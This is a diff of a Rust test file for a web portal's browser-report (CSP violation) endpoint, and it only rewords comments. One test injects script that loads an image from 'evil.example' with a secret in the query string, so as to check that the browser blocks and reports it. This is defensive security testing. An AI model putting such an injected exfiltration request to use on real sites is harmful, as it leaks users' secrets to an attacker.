@@ -1,4 +1,4 @@
-//! The one address that takes what anybody sends, without a session and without a token.
+//! The one address that accepts requests from anybody, without a session and without a token.
 
 use std::time::Duration;
 
@@ -32,7 +32,7 @@ async fn send(browser: &Browser, reports: &serde_json::Value) -> TestResponse {
         .unwrap()
 }
 
-/// The lines of the log about violations.
+/// The log's lines about violations.
 async fn violations(portal: &Portal) -> Vec<String> {
     let log = portal.log().await;
     let about = |line: &&str| line.contains("malicious_csp_violation");
@@ -66,7 +66,7 @@ async fn reports_tell_nobody_who_is_signed_in() {
     }
     assert!(portal.everything() == before, "a report changes nothing");
     assert_eq!(violations(&portal).await.len(), 1);
-    // Only this way in: nothing is shown there, and a form that is not a report is refused elsewhere.
+    // Reports have only this endpoint: it shows nothing, and Dewar refuses a form that is not a report.
     assert_eq!(ada.get("/browser-reports").await.status(), 404);
 }
 
@@ -107,7 +107,7 @@ async fn a_giant_report_is_not_read() {
     );
     let deep = format!("{}{}", "[".repeat(8_000), "]".repeat(8_000));
     for body in [padded, deep] {
-        // The connection may end before all of it is sent.
+        // The connection may end before the whole body is sent.
         let answer = to_reports(&visitor).body(body).send().await;
         assert!(answer.is_err() || answer.is_ok_and(|answer| answer.status() == 204));
     }
@@ -163,7 +163,7 @@ async fn another_site_reports_nothing_here() {
     assert_eq!(violations(&portal).await.len(), 1);
 }
 
-/// What an injected picture would do is forbidden by a real browser, and known here.
+/// A real browser blocks an injected picture, and Dewar learns of it.
 ///
 /// ASVS: V3.4.7
 #[tokio::test(flavor = "multi_thread")]
@@ -178,7 +178,7 @@ async fn chromium_reports_a_violation() {
         .await;
     let inject = "document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png?s3cr3t' }))";
     page.evaluate(&format!("{inject}; 1")).await;
-    // A browser sends what it has to report within a minute, and at once when the page is left.
+    // A browser sends its reports within a minute, and at once when the user leaves the page.
     page.goto(&format!("{}/", portal.running.url())).await;
     let mut lines = Vec::new();
     wait_until("a report comes", async || {
